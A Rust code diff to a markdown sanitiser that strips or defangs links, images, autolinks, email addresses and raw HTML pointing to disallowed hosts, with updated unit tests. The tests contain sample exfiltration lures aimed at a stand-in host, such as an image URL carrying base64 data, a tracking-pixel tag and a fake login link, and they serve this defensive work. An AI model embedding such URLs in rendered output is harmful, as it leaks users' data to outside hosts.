@@ -119,15 +119,86 @@ impl LinkPolicy {
 /// `text` with every link and image to a host `policy` does not allow neutralised and raw
 /// HTML escaped.
 pub fn neutralise(text: &str, policy: &LinkPolicy) -> String {
+    // A lone `\r` ends a line for GitHub's renderer but not for every parser: one line end.
+    let text = text.replace("\r\n", "\n").replace('\r', "\n");
+    let out = neutralise_once(&text, policy);
+    // The closing check: read back as a renderer would, nothing may link, embed or autolink
+    // another host or carry raw HTML. What still does (a construct this pass did not foresee)
+    // is posted as inert text instead.
+    if escapes(&out, policy) {
+        inert(&text)
+    } else {
+        out
+    }
+}
+
+fn options() -> Options {
+    Options::ENABLE_TABLES
+        | Options::ENABLE_STRIKETHROUGH
+        | Options::ENABLE_TASKLISTS
+        | Options::ENABLE_FOOTNOTES
+}
+
+/// Whether `out`, parsed again, still has a link or image to a host `policy` refuses, raw
+/// HTML other than the kept tags, or a bare URL GitHub would link.
+fn escapes(out: &str, policy: &LinkPolicy) -> bool {
+    let mut in_code = false;
+    for (event, range) in Parser::new_ext(out, options()).into_offset_iter() {
+        match event {
+            Event::Start(Tag::CodeBlock(_)) => in_code = true,
+            Event::End(TagEnd::CodeBlock) => in_code = false,
+            Event::Start(Tag::Link {
+                link_type,
+                dest_url,
+                ..
+            })
+            | Event::Start(Tag::Image {
+                link_type,
+                dest_url,
+                ..
+            }) => {
+                if link_type == pulldown_cmark::LinkType::Email
+                    || policy.refuses(&dest_url).is_some()
+                {
+                    return true;
+                }
+            }
+            Event::Html(h) | Event::InlineHtml(h) => {
+                if escape_html(&h) != *h {
+                    return true;
+                }
+            }
+            Event::Text(_) if !in_code => {
+                let raw = &out[range];
+                if URL.find_iter(raw).any(|m| run_refused(m.as_str(), policy)) {
+                    return true;
+                }
+            }
+            _ => {}
+        }
+    }
+    false
+}
+
+/// `text` with every ASCII punctuation character backslash-escaped: nothing in it is markup
+/// any more (no link, image, HTML or autolink), and it reads the same.
+fn inert(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() * 2);
+    for c in text.chars() {
+        if c.is_ascii_punctuation() {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
+}
+
+fn neutralise_once(text: &str, policy: &LinkPolicy) -> String {
     // The code spans written here use a run of backticks longer than any in the text, so no
     // stray backtick of the text can pair with one of ours (a code span ends only at a run
     // of the same length).
-    let options = Options::ENABLE_TABLES
-        | Options::ENABLE_STRIKETHROUGH
-        | Options::ENABLE_TASKLISTS
-        | Options::ENABLE_FOOTNOTES;
-    let ticks = stray_backticks(text, options) + 1;
-    let policy = &Ctx { policy, ticks };
+    let options = options();
+    let policy = &Ctx { policy };
     let mut out = String::with_capacity(text.len() + 64);
     let mut cursor = 0usize;
     // Links and images being dropped, innermost last: the note to write at their end.
@@ -152,10 +223,23 @@ pub fn neutralise(text: &str, policy: &LinkPolicy) -> String {
                 cursor = cursor.max(range.end);
                 in_code_block = true;
             }
-            Event::Start(Tag::Link { ref dest_url, .. })
-            | Event::Start(Tag::Image { ref dest_url, .. }) => {
+            Event::Start(Tag::Link {
+                ref dest_url,
+                link_type,
+                ..
+            })
+            | Event::Start(Tag::Image {
+                ref dest_url,
+                link_type,
+                ..
+            }) => {
                 let image = matches!(event, Event::Start(Tag::Image { .. }));
-                let refused = policy.policy.refuses(dest_url);
+                // An email autolink is a `mailto:` lure whatever its host.
+                let refused = if link_type == pulldown_cmark::LinkType::Email {
+                    Some("mailto:".to_string())
+                } else {
+                    policy.policy.refuses(dest_url)
+                };
                 if dropping.is_empty() {
                     if refused.is_none() {
                         continue; // copied with the text around it
@@ -164,7 +248,7 @@ pub fn neutralise(text: &str, policy: &LinkPolicy) -> String {
                     cursor = range.end;
                 }
                 dropping.push(refused.map(|host| {
-                    let host = code(&host, policy.ticks);
+                    let host = inert(&host);
                     if image {
                         format!(" (image from {host} removed)")
                     } else {
@@ -200,9 +284,9 @@ pub fn neutralise(text: &str, policy: &LinkPolicy) -> String {
                     }
                 }
             }
-            Event::Code(_) => {
+            Event::Code(_) if dropping.is_empty() => {
                 flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
-                push(&mut out, &text[range.clone()]);
+                out.push_str(&text[range.clone()]);
                 cursor = cursor.max(range.end);
             }
             Event::Html(_) | Event::InlineHtml(_) => {
@@ -230,12 +314,19 @@ pub fn neutralise(text: &str, policy: &LinkPolicy) -> String {
                 } else {
                     escaped
                 };
-                push(&mut out, &bare_urls(&literal, policy));
+                if dropping.is_empty() {
+                    out.push_str(&bare_urls(&literal, policy));
+                } else {
+                    out.push_str(&inert(&text[range.clone()]));
+                }
                 cursor = cursor.max(range.end);
             }
-            Event::Text(_) | Event::SoftBreak | Event::HardBreak if !dropping.is_empty() => {
-                push(&mut out, &bare_urls(&text[range], policy));
+            // The text of a link or image being dropped is written inert: rebuilt from its
+            // pieces, it must not spell new markup (an image, a tag, an autolink).
+            Event::Text(ref t) | Event::Code(ref t) if !dropping.is_empty() => {
+                out.push_str(&inert(t));
             }
+            Event::SoftBreak | Event::HardBreak if !dropping.is_empty() => out.push(' '),
             _ => {}
         }
     }
@@ -244,55 +335,9 @@ pub fn neutralise(text: &str, policy: &LinkPolicy) -> String {
     out
 }
 
-/// The policy, and the length of the backtick runs that fence the code spans written.
+/// What the pass needs besides the text.
 struct Ctx<'a> {
     policy: &'a LinkPolicy,
-    ticks: usize,
-}
-
-/// The longest run of backticks outside code spans and code blocks (whose own runs are
-/// paired already).
-fn stray_backticks(text: &str, options: Options) -> usize {
-    let mut code = Vec::new();
-    let mut block: Option<usize> = None;
-    for (event, range) in Parser::new_ext(text, options).into_offset_iter() {
-        match event {
-            Event::Start(Tag::CodeBlock(_)) => block = Some(range.start),
-            Event::End(TagEnd::CodeBlock) => {
-                code.push(block.take().unwrap_or(range.start)..range.end);
-            }
-            Event::Code(_) => code.push(range),
-            _ => {}
-        }
-    }
-    if let Some(start) = block {
-        code.push(start..text.len());
-    }
-    let (mut longest, mut run) = (0, 0);
-    for (i, c) in text.char_indices() {
-        let stray = c == '`' && !code.iter().any(|r| r.contains(&i));
-        run = if stray { run + 1 } else { 0 };
-        longest = longest.max(run);
-    }
-    longest
-}
-
-fn longest_backtick_run(text: &str) -> usize {
-    let (mut longest, mut run) = (0, 0);
-    for c in text.chars() {
-        run = if c == '`' { run + 1 } else { 0 };
-        longest = longest.max(run);
-    }
-    longest
-}
-
-/// Appends `piece`, apart from a backtick that ends `out` if it starts with one: two runs
-/// side by side would be read as one longer run.
-fn push(out: &mut String, piece: &str) {
-    if (out.ends_with('`') || out.ends_with('\\')) && piece.starts_with('`') {
-        out.push(' ');
-    }
-    out.push_str(piece);
 }
 
 /// Copies the running text between the last element handled and `to` (outside a link
@@ -306,59 +351,95 @@ fn flush(
     dropping: &[Option<String>],
 ) {
     if dropping.is_empty() && to > *cursor {
-        push(out, &bare_urls(&text[*cursor..to], policy));
+        out.push_str(&bare_urls(&text[*cursor..to], policy));
     }
     *cursor = (*cursor).max(to);
 }
 
-/// `s` as a code span fenced by `ticks` backticks (more than any run in `s`).
-fn code(s: &str, ticks: usize) -> String {
-    let s = s.replace(['\n', '\r'], " ");
-    let ticks = ticks.max(longest_backtick_run(&s) + 1);
-    let fence = "`".repeat(ticks);
-    format!("{fence} {s} {fence}")
-}
+/// What GitHub's extended autolinks start with (and what `escapes` looks for): schemes,
+/// `www.`, and email addresses.
+static URL: LazyLock<Regex> = LazyLock::new(|| {
+    // A literal pattern: it compiles (the unit tests run it). A run ends at whitespace or
+    // `<`, as GitHub's autolinks do; it may hold link syntax around it, which is why each
+    // URL inside a run is judged on its own.
+    Regex::new(
+        r"(?i)(?:(?:https?|ftp)://|www\.|(?:mailto|xmpp):)[^\s<]*|[A-Za-z0-9._+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+",
+    )
+    .expect("a valid regex")
+});
 
-/// GitHub's extended autolinks in running text: a bare URL to a host that is not allowed
-/// becomes a code span.
+/// Where a URL starts inside a run (after the first): `http://`, `https://`, `ftp://`,
+/// `www.`, `mailto:`, `xmpp:`, or an `@` of an address.
+static INNER: LazyLock<Regex> = LazyLock::new(|| {
+    // A literal pattern: it compiles (the unit tests run it).
+    Regex::new(r"(?i)(?:https?|ftp)://|www\.|mailto:|xmpp:|@").expect("a valid regex")
+});
+
+/// GitHub's extended autolinks in running text: a run that holds a URL to a host that is not
+/// allowed is defanged — `https\://`, `www\.`, `\@` — so it shows the same but links nowhere.
 fn bare_urls(text: &str, ctx: &Ctx<'_>) -> String {
-    static URL: LazyLock<Regex> = LazyLock::new(|| {
-        // A literal pattern: it compiles (the unit tests run it).
-        // Parentheses end a URL here: `[t](https://github.com/…)https://evil.example` is a
-        // link and then an autolink, never one URL.
-        // No word boundary is asked for: GitHub also links after `_`, and a URL neutralised
-        // where GitHub would not have linked it costs nothing.
-        Regex::new(r"(?i)(?:https?://|www\.)[^\s<>`()\\]+").expect("a valid regex")
-    });
     let mut out = String::with_capacity(text.len());
     let mut last = 0;
     for m in URL.find_iter(text) {
-        let mut url = m.as_str();
-        // Trailing punctuation is not part of an autolink.
-        while let Some(c) = url.chars().last() {
-            let unbalanced_paren = c == ')' && url.matches('(').count() < url.matches(')').count();
-            if "?!.,:;*_~'\"".contains(c) || unbalanced_paren {
-                url = &url[..url.len() - c.len_utf8()];
-            } else {
-                break;
-            }
-        }
-        if url.is_empty() || ctx.policy.refuses(url).is_none() {
+        let run = m.as_str();
+        if !run_refused(run, ctx.policy) {
             continue;
         }
         out.push_str(&text[last..m.start()]);
-        // A backtick beside ours would lengthen our fence, a backslash would escape it:
-        // keep them apart.
-        if out.ends_with('`') || out.ends_with('\\') {
-            out.push(' ');
-        }
-        out.push_str(&code(url, ctx.ticks));
-        last = m.start() + url.len();
-        if text[last..].starts_with('`') {
-            out.push(' ');
-        }
+        out.push_str(&defang(run));
+        last = m.end();
     }
     out.push_str(&text[last..]);
+    out
+}
+
+/// Whether a run of URL characters holds, anywhere in it, a URL GitHub would link to a host
+/// `policy` refuses (or an address: a `mailto:` lure).
+fn run_refused(run: &str, policy: &LinkPolicy) -> bool {
+    INNER
+        .find_iter(run)
+        .map(|s| s.start())
+        .chain(std::iter::once(0))
+        .any(|at| {
+            let url = trim_autolink(&run[at..]);
+            if url.contains('@') && !url.contains("://") {
+                return true;
+            }
+            !url.is_empty() && policy.refuses(url).is_some()
+        })
+}
+
+/// The end GitHub gives an autolink: trailing punctuation and an unbalanced `)` are not
+/// part of it.
+fn trim_autolink(mut url: &str) -> &str {
+    while let Some(c) = url.chars().last() {
+        let unbalanced = c == ')' && url.matches('(').count() < url.matches(')').count();
+        if "?!.,:;*_~'\"".contains(c) || unbalanced {
+            url = &url[..url.len() - c.len_utf8()];
+        } else {
+            break;
+        }
+    }
+    url
+}
+
+/// `run` as it reads, with every place an autolink could start escaped: `https\://`,
+/// `www\.`, `\@`.
+fn defang(run: &str) -> String {
+    // ASCII lower-casing keeps every byte offset.
+    let lower = run.to_ascii_lowercase();
+    let mut out = String::with_capacity(run.len() + 8);
+    for (i, c) in run.char_indices() {
+        let scheme_colon = c == ':'
+            && ["http", "https", "ftp", "mailto", "xmpp"]
+                .iter()
+                .any(|s| lower[..i].ends_with(s));
+        let www_dot = c == '.' && lower[..i].ends_with("www");
+        if c == '@' || scheme_colon || www_dot {
+            out.push('\\');
+        }
+        out.push(c);
+    }
     out
 }
 
@@ -436,37 +517,48 @@ mod tests {
         let p = github();
         assert_eq!(
             neutralise("See ![x](https://evil.example/p.png?d=c2VjcmV0) now", &p),
-            "See x (image from ` evil.example ` removed) now"
+            r"See x (image from evil\.example removed) now"
         );
         assert_eq!(
             neutralise("[docs](https://evil.example/login \"t\")", &p),
-            "docs (link to ` evil.example ` removed)"
+            r"docs (link to evil\.example removed)"
         );
-        // Reference links, autolinks and bare URLs.
+        // Reference links, autolinks and bare URLs (defanged: they read the same).
         assert_eq!(
             neutralise("[a][r]\n\n[r]: https://evil.example/x", &p),
-            "a (link to ` evil.example ` removed)\n\n[r]: ` https://evil.example/x `"
+            "a (link to evil\\.example removed)\n\n[r]: https\\://evil.example/x"
         );
         assert_eq!(
             neutralise("go <https://evil.example/a>.", &p),
-            "go ` https://evil.example/a ` (link to ` evil.example ` removed)."
+            r"go https\:\/\/evil\.example\/a (link to evil\.example removed)."
         );
         assert_eq!(
             neutralise("visit www.evil.example/a, or https://github.com/o/r.", &p),
-            "visit ` www.evil.example/a `, or https://github.com/o/r."
+            r"visit www\.evil.example/a, or https://github.com/o/r."
         );
+        // An address is a mailto: lure; an allowed link beside a bad one does not cover it.
+        assert_eq!(
+            neutralise("mail me@evil.example", &p),
+            r"mail me\@evil.example"
+        );
+        assert!(neutralise("<a@evil.example>", &p).contains("removed"));
+        assert!(
+            neutralise("[x](https://github.com/o/r)https://evil.example/a", &p)
+                .contains(r"https\://evil.example/a")
+        );
+        assert!(neutralise("see https://github.com)@evil.example/p.png", &p).contains(r"\@"));
         // Userinfo does not fool the host check; protocol-relative and other schemes.
-        assert!(neutralise("[x](https://github.com@evil.example/)", &p).contains("evil.example"));
-        assert!(neutralise("[x](//evil.example/)", &p).contains("link to ` evil.example `"));
-        assert!(neutralise("[x](data:image/png;base64,AAA)", &p).contains("` data: `"));
+        assert!(neutralise("[x](https://github.com@evil.example/)", &p).contains("evil"));
+        assert!(neutralise("[x](//evil.example/)", &p).contains(r"link to evil\.example"));
+        assert!(neutralise("[x](data:image/png;base64,AAA)", &p).contains(r"data\:"));
         // A destination of multi-byte characters (found by scripts/fuzz: it once panicked).
         assert_eq!(neutralise("[](ପ𑎀)", &p), "[](ପ𑎀)");
         assert!(neutralise("[t][x]\n\n[x]: //evil.example/a", &p)
-            .starts_with("t (link to ` evil.example ` removed)"));
+            .starts_with(r"t (link to evil\.example removed)"));
         assert!(neutralise("[x](\\\\evil.example\\a)", &p).contains("removed"));
         assert_eq!(
             neutralise("| [x](https://evil.example) | ![i](https://e.example/i) |\n|---|---|", &p),
-            "| x (link to ` evil.example ` removed) | i (image from ` e.example ` removed) |\n|---|---|"
+            "| x (link to evil\\.example removed) | i (image from e\\.example removed) |\n|---|---|"
         );
         // A badge: an image inside a link, both elsewhere.
         assert_eq!(
@@ -474,8 +566,24 @@ mod tests {
                 "[![b](https://img.example/b.svg)](https://evil.example)",
                 &p
             ),
-            "b (image from ` img.example ` removed) (link to ` evil.example ` removed)"
+            r"b (image from img\.example removed) (link to evil\.example removed)"
         );
+        // A dropped link's text cannot spell new markup.
+        for label in [
+            r"[\!\[x\](//evil.example/p.png)](//z.example)",
+            r"[\<img src=//evil.example/p.png\>](//z.example)",
+        ] {
+            let out = neutralise(label, &p);
+            assert!(!escapes(&out, &p), "{out}");
+        }
+        // Nested brackets around a dropped link, a lone carriage return: the closing check.
+        for tricky in [
+            "[a [b](//z.example)](//evil.example/2)",
+            "```\rx\r```\r![a](//evil.example/p.png)",
+        ] {
+            let out = neutralise(tricky, &p);
+            assert!(!escapes(&out, &p), "{out}");
+        }
     }
 
     #[test]
@@ -498,7 +606,7 @@ mod tests {
         let p = github();
         assert_eq!(
             neutralise("<img src=\"https://evil.example/t.gif\">", &p),
-            "&lt;img src=\"` https://evil.example/t.gif `\">"
+            "&lt;img src=\"https\\://evil.example/t.gif\">"
         );
         assert_eq!(
             neutralise("a <a href=x>b</a> c", &p),
